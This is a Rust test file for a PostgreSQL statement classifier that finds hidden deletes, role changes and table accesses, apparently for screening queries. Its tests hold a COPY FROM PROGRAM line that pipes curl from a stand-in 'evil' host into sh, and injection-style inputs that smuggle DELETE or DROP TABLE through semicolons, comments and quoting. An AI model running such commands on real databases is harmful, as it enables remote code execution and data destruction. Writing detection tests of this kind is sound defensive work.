//! Classification of ordinary and adversarial statements.

use super::*;

fn one(sql: &str) -> Statement {
    let mut v = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(v.len(), 1, "{sql}: {v:?}");
    v.remove(0)
}

fn rels(s: &Statement) -> Vec<String> {
    let mut v: Vec<String> = s.relations.iter().map(ToString::to_string).collect();
    v.sort_unstable();
    v
}

/// Every kind judged for a statement, itself first.
fn judged(s: &Statement) -> Vec<&'static str> {
    let mut out = Vec::new();
    s.visit(&mut |s| out.push(s.kind.as_str()));
    out
}

#[test]
fn kinds_of_plain_statements() {
    let cases: &[(&str, &str)] = &[
        ("SELECT 1", "select"),
        ("select * from t", "select"),
        ("VALUES (1), (2)", "select"),
        ("TABLE t", "select"),
        ("SELECT * FROM t FOR UPDATE", "select"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING", "insert"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update"),
        ("DELETE FROM t WHERE id = 1", "delete"),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge"),
        ("CREATE TABLE t (id int)", "ddl"),
        ("ALTER TABLE t ADD COLUMN b text", "ddl"),
        ("DROP TABLE t", "ddl"),
        ("CREATE INDEX i ON t (a)", "ddl"),
        ("CREATE VIEW v AS SELECT * FROM t", "ddl"),
        ("CREATE TABLE n AS SELECT * FROM t", "ddl"),
        ("SELECT * INTO n FROM t", "ddl"),
        ("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "ddl"),
        ("COMMENT ON TABLE t IS 'x'", "ddl"),
        ("REFRESH MATERIALIZED VIEW m", "ddl"),
        ("CREATE EXTENSION dblink", "ddl"),
        ("TRUNCATE t, u", "truncate"),
        ("COPY t FROM STDIN", "copy_from"),
        ("COPY t TO STDOUT", "copy_to"),
        ("COPY (SELECT * FROM t) TO STDOUT", "copy_to"),
        ("GRANT SELECT ON t TO bob", "grant"),
        ("REVOKE ALL ON t FROM bob", "grant"),
        ("GRANT admin TO bob", "grant"),
        ("CREATE ROLE x LOGIN PASSWORD 'p'", "grant"),
        ("ALTER ROLE x SUPERUSER", "grant"),
        ("DROP ROLE x", "grant"),
        ("ALTER TABLE t OWNER TO bob", "grant"),
        ("SET ROLE admin", "grant"),
        ("RESET ROLE", "grant"),
        ("SET SESSION AUTHORIZATION postgres", "grant"),
        ("CALL p(1)", "call"),
        ("DO $$ BEGIN PERFORM 1; END $$", "call"),
        ("BEGIN", "transaction"),
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction"),
        ("COMMIT", "transaction"),
        ("ROLLBACK", "transaction"),
        ("SAVEPOINT a", "transaction"),
        ("RELEASE SAVEPOINT a", "transaction"),
        ("ROLLBACK TO SAVEPOINT a", "transaction"),
        ("PREPARE TRANSACTION 'x'", "transaction"),
        ("COMMIT PREPARED 'x'", "transaction"),
        ("SET search_path = app", "set"),
        ("SET LOCAL statement_timeout = 0", "set"),
        ("RESET ALL", "set"),
        ("SET TRANSACTION READ ONLY", "set"),
        ("SET CONSTRAINTS ALL DEFERRED", "set"),
        ("SHOW server_version", "show"),
        ("EXPLAIN SELECT 1", "explain"),
        ("PREPARE p AS SELECT 1", "prepare"),
        ("EXECUTE p", "execute"),
        ("DEALLOCATE p", "deallocate"),
        ("DEALLOCATE ALL", "deallocate"),
        ("DECLARE c CURSOR FOR SELECT 1", "cursor"),
        ("FETCH 10 FROM c", "cursor"),
        ("MOVE NEXT IN c", "cursor"),
        ("CLOSE c", "cursor"),
        ("LISTEN ch", "listen"),
        ("UNLISTEN *", "listen"),
        ("NOTIFY ch, 'x'", "notify"),
        ("VACUUM t", "utility"),
        ("ANALYZE t", "utility"),
        ("CLUSTER t", "utility"),
        ("REINDEX TABLE t", "utility"),
        ("CHECKPOINT", "utility"),
        ("DISCARD ALL", "utility"),
        ("LOCK TABLE t", "utility"),
        ("LOAD 'plpgsql'", "utility"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "utility"),
    ];
    for (sql, kind) in cases {
        assert_eq!(one(sql).kind.as_str(), *kind, "{sql}");
    }
    // An owner change among other changes is judged as both.
    assert_eq!(judged(&one("ALTER TABLE t ADD COLUMN c int, OWNER TO bob")), ["ddl", "grant"]);
}

#[test]
fn relations_are_qualified_where_written_and_folded_like_postgres() {
    assert_eq!(rels(&one("SELECT * FROM Billing.Invoices")), ["billing.invoices"]);
    assert_eq!(rels(&one(r#"SELECT * FROM "Billing"."Invoices""#)), ["Billing.Invoices"]);
    assert_eq!(rels(&one("SELECT * FROM users")), ["users"]);
    // The catalog can only be the current database: dropped.
    assert_eq!(rels(&one("SELECT * FROM app.public.users")), ["public.users"]);
    // A quoted name may hold a dot: the parts stay apart.
    let s = one(r#"SELECT * FROM "a.b""#);
    assert_eq!(s.relations, [Relation { schema: None, name: "a.b".into() }]);
    // Each once, sorted.
    assert_eq!(rels(&one("SELECT * FROM b JOIN a ON true JOIN b AS c ON true")), ["a", "b"]);
}

#[test]
fn relations_hidden_in_subqueries_ctes_and_expressions_are_found() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT (SELECT max(x) FROM s.secrets) FROM t", &["s.secrets", "t"]),
        ("SELECT * FROM t WHERE id IN (SELECT id FROM s.secrets)", &["s.secrets", "t"]),
        ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM secrets)", &["secrets", "t"]),
        ("WITH x AS (SELECT * FROM secrets) SELECT * FROM x", &["secrets"]),
        ("SELECT * FROM t UNION ALL SELECT * FROM secrets", &["secrets", "t"]),
        ("SELECT * FROM (SELECT * FROM secrets) q", &["secrets"]),
        ("SELECT * FROM t, LATERAL (SELECT * FROM secrets) q", &["secrets", "t"]),
        ("SELECT CASE WHEN true THEN (SELECT 1 FROM secrets) END", &["secrets"]),
        ("INSERT INTO t SELECT * FROM secrets", &["secrets", "t"]),
        ("UPDATE t SET a = s.a FROM secrets s WHERE s.id = t.id", &["secrets", "t"]),
        ("DELETE FROM t USING secrets WHERE secrets.id = t.id", &["secrets", "t"]),
        ("TRUNCATE a, s.b", &["a", "s.b"]),
        ("DROP TABLE a, s.b", &["a", "s.b"]),
        ("DROP VIEW IF EXISTS v", &["v"]),
        ("ALTER TABLE s.t RENAME TO u", &["s.t"]),
        ("CREATE TABLE n AS SELECT * FROM secrets", &["n", "secrets"]),
        ("SELECT * INTO n FROM secrets", &["n", "secrets"]),
        ("GRANT SELECT ON s.t TO bob", &["s.t"]),
        ("LOCK TABLE secrets", &["secrets"]),
        ("COPY (SELECT * FROM secrets) TO STDOUT", &["secrets"]),
        ("EXPLAIN ANALYZE DELETE FROM secrets", &["secrets"]),
        ("PREPARE p AS SELECT * FROM secrets", &["secrets"]),
        ("DECLARE c CURSOR FOR SELECT * FROM secrets", &["secrets"]),
        ("CREATE VIEW v AS SELECT * FROM secrets", &["secrets", "v"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(rels(&one(sql)), *expected, "{sql}");
    }
}

#[test]
fn cte_names_are_not_relations_only_where_postgres_resolves_them_to_the_cte() {
    let cases: &[(&str, &[&str])] = &[
        ("WITH x AS (SELECT 1) SELECT * FROM x", &[]),
        // Qualified: a table, never the CTE.
        ("WITH x AS (SELECT 1) SELECT * FROM public.x", &["public.x"]),
        // Out of the CTE's scope: the table of that name.
        ("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q", &["secrets"]),
        // A CTE's query sees only earlier CTEs (without RECURSIVE)...
        ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", &["b"]),
        ("WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a", &[]),
        // ...and all of them with it.
        ("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", &[]),
        ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT * FROM t", &[]),
        // Set operations share the WITH.
        ("WITH x AS (SELECT 1) SELECT * FROM x UNION SELECT * FROM y", &["y"]),
        // The table a statement writes is never a CTE.
        ("WITH secrets AS (SELECT 1) DELETE FROM secrets", &["secrets"]),
        ("WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets", &["secrets"]),
        ("WITH secrets AS (SELECT 1), d AS (DELETE FROM secrets) SELECT 1", &["secrets"]),
        ("WITH t AS (SELECT 1) SELECT * INTO t FROM t", &["t"]),
        ("WITH s AS (SELECT 1 AS id) MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", &["t"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(rels(&one(sql)), *expected, "{sql}");
    }
    // The nested DELETE's own relations too.
    let s = one("WITH secrets AS (SELECT 1), d AS (DELETE FROM secrets) SELECT 1");
    assert_eq!(rels(&s.inner[0]), ["secrets"]);
}

#[test]
fn where_clause_presence() {
    assert_eq!(one("DELETE FROM t").has_where, Some(false));
    assert_eq!(one("DELETE FROM t WHERE id = 1").has_where, Some(true));
    assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
    assert_eq!(one("UPDATE t SET a = 1 WHERE a IS NULL").has_where, Some(true));
    assert_eq!(one("DELETE FROM t WHERE CURRENT OF c").has_where, Some(true));
    // A WHERE in a USING subquery is not the DELETE's.
    assert_eq!(one("DELETE FROM t USING (SELECT * FROM u WHERE x) q").has_where, Some(false));
    assert_eq!(one("SELECT 1").has_where, None);
    assert_eq!(one("INSERT INTO t VALUES (1)").has_where, None);
}

#[test]
fn statements_carried_by_others_are_judged_too() {
    let s = one("EXPLAIN ANALYZE DELETE FROM secrets");
    assert_eq!(judged(&s), ["explain", "delete"]);
    assert_eq!(s.inner[0].has_where, Some(false));
    assert_eq!(rels(&s.inner[0]), ["secrets"]);

    assert_eq!(judged(&one("EXPLAIN SELECT 1")), ["explain", "select"]);
    assert_eq!(judged(&one("PREPARE p (int) AS DELETE FROM t WHERE id = $1")), ["prepare", "delete"]);
    assert_eq!(judged(&one("PREPARE p AS UPDATE t SET a = 1")), ["prepare", "update"]);
    assert_eq!(judged(&one("DECLARE c CURSOR FOR SELECT * FROM t")), ["cursor", "select"]);
    assert_eq!(judged(&one("COPY (SELECT * FROM t) TO STDOUT")), ["copy_to", "select"]);
    assert_eq!(judged(&one("COPY (DELETE FROM t RETURNING *) TO STDOUT")), ["copy_to", "delete"]);
    assert_eq!(
        judged(&one("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")),
        ["explain", "select", "delete"]
    );
    assert_eq!(judged(&one("EXPLAIN (ANALYZE, FORMAT JSON) CREATE TABLE n AS SELECT 1")), ["explain", "ddl"]);
}

#[test]
fn data_modifying_ctes_are_judged_as_what_they_do() {
    let s = one("WITH d AS (DELETE FROM secrets RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, StatementKind::Select);
    assert_eq!(judged(&s), ["select", "delete"]);
    assert_eq!(s.inner[0].has_where, Some(false));
    assert_eq!(rels(&s.inner[0]), ["secrets"]);

    let s = one("WITH a AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING id), \
              b AS (INSERT INTO log SELECT id FROM a RETURNING id) \
         DELETE FROM u WHERE id IN (SELECT id FROM b)");
    let mut kinds = judged(&s);
    kinds.sort_unstable();
    assert_eq!(kinds, ["delete", "insert", "update"]);
    assert_eq!(s.kind, StatementKind::Delete);

    // Nested twice: a CTE inside a CTE's statement.
    let s = one("WITH a AS (INSERT INTO t WITH b AS (DELETE FROM u RETURNING *) SELECT * FROM b RETURNING *) SELECT 1");
    assert_eq!(judged(&s), ["select", "insert", "delete"]);

    // A rule's actions run on every later write to the table.
    let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
    assert_eq!(judged(&s), ["ddl", "delete"]);
}

#[test]
fn copy_direction_and_program() {
    let s = one("COPY t FROM PROGRAM 'curl evil | sh'");
    assert_eq!(s.kind, StatementKind::Copy { direction: CopyDirection::From, program: true });
    let s = one("COPY t TO '/tmp/x'");
    assert_eq!(s.kind, StatementKind::Copy { direction: CopyDirection::To, program: false });
    assert_eq!(rels(&s), ["t"]);
}

#[test]
fn each_statement_of_a_query_is_classified_with_its_span() {
    let q = "SELECT 1; DELETE FROM t;\n  UPDATE u SET a = 1 WHERE b  ";
    let v = classify(q).unwrap();
    let kinds: Vec<_> = v.iter().map(|s| s.kind.as_str()).collect();
    assert_eq!(kinds, ["select", "delete", "update"]);
    assert_eq!(v[0].text(q), "SELECT 1");
    assert_eq!(v[1].text(q).trim(), "DELETE FROM t");
    assert!(v[2].text(q).trim().starts_with("UPDATE u"));
    assert!(classify("").unwrap().is_empty());
    assert!(classify("  ;; -- nothing\n").unwrap().is_empty());
}

#[test]
fn smuggling_through_literals_comments_and_quoting_is_seen_through() {
    // Semicolons in literals, comments and identifiers are not separators.
    let v = classify("SELECT ';DELETE FROM t;' /* ; DROP TABLE t; */, \"a;b\" FROM x").unwrap();
    assert_eq!(v.len(), 1);
    assert_eq!(v[0].kind, StatementKind::Select);
    // Dollar quoting hides nothing from the lexer...
    let v = classify("SELECT $x$ ; $y$ $x$; DELETE FROM t").unwrap();
    assert_eq!(v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["select", "delete"]);
    // ...and nested comments nest, as in PostgreSQL.
    let v = classify("/* a /* b */ ; DELETE FROM t; */ SELECT 1").unwrap();
    assert_eq!(v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["select"]);
    // Keywords in any case, Unicode-escaped identifiers.
    assert_eq!(one("dElEtE fRoM t").kind, StatementKind::Delete);
    assert_eq!(rels(&one(r#"SELECT * FROM U&"\0073ecrets""#)), ["secrets"]);
}

#[test]
fn lexing_follows_standard_conforming_strings() {
    let kinds = |v: Vec<Statement>| v.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>();
    let setting = |on| ParseOptions { standard_conforming_strings: Some(on) };
    // On (the default since 9.1), a backslash is an ordinary character: a
    // string `\` and then a DELETE.
    let q = r"SELECT '\'; DELETE FROM t; -- '";
    assert_eq!(kinds(classify_with(q, setting(true)).unwrap()), ["select", "delete"]);
    // Off, `\'` escapes the quote: one SELECT of a string.
    assert_eq!(kinds(classify_with(q, setting(false)).unwrap()), ["select"]);
    // Not told which: two readings that parse and differ are refused.
    assert_eq!(classify(q), Err(SqlError::Ambiguous));
    // One reading the server could not execute: the other decides.
    assert_eq!(kinds(classify(r"SELECT 'C:\'").unwrap()), ["select"]);
    assert_eq!(kinds(classify(r"SELECT 'it\'s'").unwrap()), ["select"]);
    // Backslashes that read the same both ways.
    assert_eq!(kinds(classify(r"SELECT E'a\'b', 'x\y' FROM t; DELETE FROM u WHERE v").unwrap()), ["select", "delete"]);
    assert!(matches!(classify(r"SELECT '\"), Err(SqlError::Syntax(_))));
}

#[test]
fn text_that_does_not_parse_is_an_error() {
    for bad in [
        "SELEC 1",
        "SELECT 1; this is not sql; SELECT 2",
        "DELETE FROM",
        "SELECT 'unterminated",
        "SELECT 1 /* unterminated comment",
        "SELECT \0 1",
        "SELECT $1 $$",
    ] {
        assert!(matches!(classify(bad), Err(SqlError::Syntax(_))), "{bad:?}");
    }
}

#[test]
fn kind_names_and_bits_agree() {
    let mut seen = 0u32;
    for name in StatementKind::NAMES {
        let bits = StatementKind::bits_of_name(name).unwrap();
        assert_ne!(bits, 0, "{name}");
        if *name != "copy" {
            assert_eq!(bits.count_ones(), 1, "{name}");
            assert_eq!(seen & bits, 0, "{name}");
            seen |= bits;
        }
    }
    assert_eq!(StatementKind::bits_of_name("copy").unwrap().count_ones(), 2);
    assert!(StatementKind::bits_of_name("drop").is_none());
    for sql in ["SELECT 1", "COPY t FROM STDIN", "COPY t TO STDOUT", "VACUUM"] {
        let k = one(sql).kind;
        assert_eq!(StatementKind::bits_of_name(k.as_str()), Some(k.bit()), "{sql}");
    }
}
